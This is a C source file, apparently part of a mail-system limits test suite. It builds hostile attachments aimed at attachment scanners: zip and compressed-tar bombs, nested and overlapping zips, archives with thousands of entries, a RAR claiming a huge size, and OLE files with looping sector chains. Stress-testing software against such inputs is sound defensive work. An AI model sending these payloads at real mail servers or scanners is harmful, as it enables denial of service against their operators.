/* Attacks on what looks into attachments. */
#include <archive.h>
#include <archive_entry.h>
#include <stdio.h>
#include <stdlib.h>

#include "base/err.h"
#include "limits/attack.h"

#define MiB (1u << 20)

static void attach(struct buf *b, const char *name, struct str octets)
{
	buf_addf(b,
		 "--b\r\nContent-Type: application/octet-stream; name=\"%s\"\r\n"
		 "Content-Disposition: attachment; filename=\"%s\"\r\n"
		 "Content-Transfer-Encoding: base64\r\n\r\n",
		 name, name);
	base64(b, octets);
}

/* ---- archives by libarchive ---- */

static la_ssize_t write_to(struct archive *a, void *arg, const void *p, size_t n)
{
	(void)a;
	buf_add(arg, str_of(p, n));
	return (la_ssize_t)n;
}

static struct archive *open_archive(struct buf *to, int format, int filter)
{
	struct archive *w = archive_write_new();

	if (!w || archive_write_set_format(w, format) != ARCHIVE_OK)
		bug("no archive");
	if (filter && archive_write_add_filter(w, filter) != ARCHIVE_OK)
		bug("no filter");
	archive_write_set_bytes_in_last_block(w, 1);
	if (archive_write_open2(w, to, NULL, write_to, NULL, NULL) != ARCHIVE_OK)
		bug("archive: %s", archive_error_string(w));
	return w;
}

static void add_entry(struct archive *w, const char *name, struct str octets)
{
	struct archive_entry *e = archive_entry_new();

	archive_entry_set_pathname(e, name);
	archive_entry_set_size(e, (la_int64_t)octets.n);
	archive_entry_set_filetype(e, AE_IFREG);
	archive_entry_set_perm(e, 0644);
	if (archive_write_header(w, e) != ARCHIVE_OK)
		bug("archive: %s", archive_error_string(w));
	archive_write_data(w, octets.p, octets.n);
	archive_entry_free(e);
}

static struct str zeros(struct arena *a, size_t n)
{
	return str_of(arena_zalloc(a, n), n);
}

/* One file of n zeros. */
static struct str bomb(struct arena *a, int format, int filter, const char *name, size_t n)
{
	struct buf out = { .arena = a };
	struct archive *w = open_archive(&out, format, filter);

	add_entry(w, name, zeros(a, n));
	archive_write_close(w);
	archive_write_free(w);
	return buf_str(&out);
}

/* n entries with a little in each. */
static struct str entries(struct arena *a, int format, int filter, size_t n)
{
	struct buf out = { .arena = a };
	struct archive *w = open_archive(&out, format, filter);
	char name[64];

	for (size_t i = 0; i < n; i++) {
		snprintf(name, sizeof name, "dir%zu/file%zu.exe", i % 7, i);
		add_entry(w, name, STR("MZ some octets PK"));
	}
	archive_write_close(w);
	archive_write_free(w);
	return buf_str(&out);
}

static void times(struct buf *b, const char *name, struct str octets, size_t n)
{
	begin(b, "multipart/mixed; boundary=b");
	for (size_t i = 0; i < n; i++)
		attach(b, name, octets);
}

static void zip_bombs(struct buf *b, size_t n)
{
	times(b, "a.zip", bomb(b->arena, ARCHIVE_FORMAT_ZIP, 0, "a.doc", 20 * MiB), n);
}

static void gz_bombs(struct buf *b, size_t n)
{
	times(b, "a.tar.gz",
	      bomb(b->arena, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, "a.doc", 20 * MiB), n);
}

static void bz2_bombs(struct buf *b, size_t n)
{
	times(b, "a.tar.bz2",
	      bomb(b->arena, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_BZIP2, "a.doc", 20 * MiB), n);
}

static void xz_bombs(struct buf *b, size_t n)
{
	times(b, "a.tar.xz",
	      bomb(b->arena, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_XZ, "a.doc", 20 * MiB), n);
}

static void sevenzip_bombs(struct buf *b, size_t n)
{
	times(b, "a.7z", bomb(b->arena, ARCHIVE_FORMAT_7ZIP, 0, "a.doc", 20 * MiB), n);
}

static void zip_in_zip(struct buf *b, size_t n)
{
	struct str in = bomb(b->arena, ARCHIVE_FORMAT_ZIP, 0, "a.zip", 4 * MiB);

	for (size_t level = 0; level < 5; level++) {
		struct buf out = { .arena = b->arena };
		struct archive *w = open_archive(&out, ARCHIVE_FORMAT_ZIP, 0);

		for (size_t i = 0; i < 4; i++)
			add_entry(w, i % 2 ? "a.zip" : "b.jar", in);
		archive_write_close(w);
		archive_write_free(w);
		in = buf_str(&out);
	}
	times(b, "a.zip", in, n);
}

static void zip_entries(struct buf *b, size_t n)
{
	times(b, "a.zip", entries(b->arena, ARCHIVE_FORMAT_ZIP, 0, 1000), n);
}

static void zip_many_entries(struct buf *b, size_t n)
{
	times(b, "a.zip", entries(b->arena, ARCHIVE_FORMAT_ZIP, 0, n), 1);
}

static void tar_entries(struct buf *b, size_t n)
{
	times(b, "a.tar.gz", entries(b->arena, ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, 1000),
	      n);
}

static void sevenzip_entries(struct buf *b, size_t n)
{
	times(b, "a.7z", entries(b->arena, ARCHIVE_FORMAT_7ZIP, 0, 1000), n);
}

static void iso_entries(struct buf *b, size_t n)
{
	times(b, "a.iso", entries(b->arena, ARCHIVE_FORMAT_ISO9660, 0, 300), n);
}

static void cpio_entries(struct buf *b, size_t n)
{
	times(b, "a.cpio", entries(b->arena, ARCHIVE_FORMAT_CPIO_POSIX, 0, 1000), n);
}

static void office(struct buf *b, size_t n)
{
	struct buf out = { .arena = b->arena };
	struct archive *w = open_archive(&out, ARCHIVE_FORMAT_ZIP, 0);

	add_entry(w, "[Content_Types].xml", STR("<Types xmlns=\"x\"><Override/></Types>"));
	add_entry(w, "word/document.xml", zeros(b->arena, 4 * MiB));
	add_entry(w, "word/vbaProject.bin", zeros(b->arena, 4 * MiB));
	add_entry(w, "word/_rels/document.xml.rels", zeros(b->arena, 4 * MiB));
	archive_write_close(w);
	archive_write_free(w);
	times(b, "a.docm", buf_str(&out), n);
}

/* ---- archives by hand ---- */

static void put(struct buf *b, uint64_t v, size_t octets)
{
	for (size_t i = 0; i < octets; i++, v >>= 8)
		buf_addc(b, (char)(v & 0xff));
}

/* Every entry of the list is the same one: 1,000 times 4 MiB of zeros out of a few kB. */
static void overlapping(struct buf *b, size_t n)
{
	struct str one = bomb(b->arena, ARCHIVE_FORMAT_ZIP, 0, "a", 4 * MiB);
	struct buf out = { .arena = b->arena };
	size_t list;

	buf_add(&out, one);
	list = out.n;
	for (size_t i = 0; i < 1000; i++) {
		put(&out, 0x02014b50, 4);
		put(&out, 20 | 20 << 16, 4);
		put(&out, 8 << 16, 4);
		put(&out, 0, 8);
		put(&out, one.n, 4);
		put(&out, 4 * MiB, 4);
		put(&out, 1, 2);
		put(&out, 0, 12);
		put(&out, 0, 4);
		ADD(&out, "a");
	}
	put(&out, 0x06054b50, 4);
	put(&out, 0, 4);
	put(&out, 1000 | 1000 << 16, 4);
	put(&out, out.n - 12 - list, 4);
	put(&out, list, 4);
	put(&out, 0, 2);
	times(b, "a.zip", buf_str(&out), n);
}

/* RAR 4 stored entries, and one that claims much. */
static void rars(struct buf *b, size_t n)
{
	struct buf out = { .arena = b->arena };

	buf_add(&out, str_of("Rar!\x1a\x07\0", 7));
	put(&out, 0x90cf, 2);
	put(&out, 0x73, 1);
	put(&out, 0, 2);
	put(&out, 13, 2);
	put(&out, 0, 6);
	for (size_t i = 0; i < 1000; i++) {
		put(&out, 0, 2);
		put(&out, 0x74, 1);
		put(&out, 0x8000, 2);
		put(&out, 33, 2);
		put(&out, 0, 4);
		put(&out, 0x7fffffff, 4);
		put(&out, 2, 1);
		put(&out, 0, 8);
		put(&out, 20 | 0x30 << 8, 2);
		put(&out, 1, 2);
		put(&out, 0, 4);
		ADD(&out, "a");
	}
	times(b, "a.rar", buf_str(&out), n);
}

static void zip_names(struct buf *b, size_t n)
{
	times(b, "a.zip", STR("PK\3\4\24\0\0\0\0\0PK\1\2PK\5\6"), n);
}

/* Compound files whose chains of sectors go round in circles. */
static void ole(struct buf *b, size_t n)
{
	struct buf out = { .arena = b->arena };

	buf_add(&out, STR("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"));
	rep(&out, str_of("\0", 1), 16);
	put(&out, 0x0003003e, 4);
	put(&out, 0x0009fffe, 4);
	put(&out, 6, 8);
	put(&out, 100, 8);
	put(&out, 1, 8);
	put(&out, 4096, 4);
	put(&out, 2, 4);
	put(&out, 1, 4);
	put(&out, 0, 8);
	for (uint32_t i = 0; i < 109; i++)
		put(&out, 0, 4);
	for (uint32_t i = 0; i < 128 * 200; i++)
		put(&out, (i + 1) % 150, 4);
	times(b, "a.doc", buf_str(&out), n);
}

static void large(struct buf *b, size_t n)
{
	begin(b, "multipart/mixed; boundary=b");
	attach(b, "a.bin", zeros(b->arena, n));
}

static void pages(struct buf *b, size_t n)
{
	begin(b, "multipart/mixed; boundary=b");
	for (size_t i = 0; i < n; i++)
		attach(b, "a.html",
		       STR("<html><body><a href=\"http://a.example/\">b</a><script>c"));
}

const struct attack attacks_file[] = {
	{ "zip bombs", zip_bombs, 50 },
	{ "gzip bombs", gz_bombs, 50 },
	{ "bzip2 bombs", bz2_bombs, 50 },
	{ "xz bombs", xz_bombs, 50 },
	{ "7z bombs", sevenzip_bombs, 50 },
	{ "zips in zips", zip_in_zip, 10 },
	{ "zips of 1,000 entries", zip_entries, 100 },
	{ "entries of a zip", zip_many_entries, 20000 },
	{ "tars of 1,000 entries", tar_entries, 100 },
	{ "7z of 1,000 entries", sevenzip_entries, 100 },
	{ "images of 300 entries", iso_entries, 20 },
	{ "cpio of 1,000 entries", cpio_entries, 100 },
	{ "office documents", office, 50 },
	{ "overlapping zips", overlapping, 50 },
	{ "rars", rars, 100 },
	{ "zip signatures", zip_names, 10000 },
	{ "compound files", ole, 50 },
	{ "large file", large, 7 * MiB },
	{ "pages attached", pages, 1000 },
	{ 0 },
};
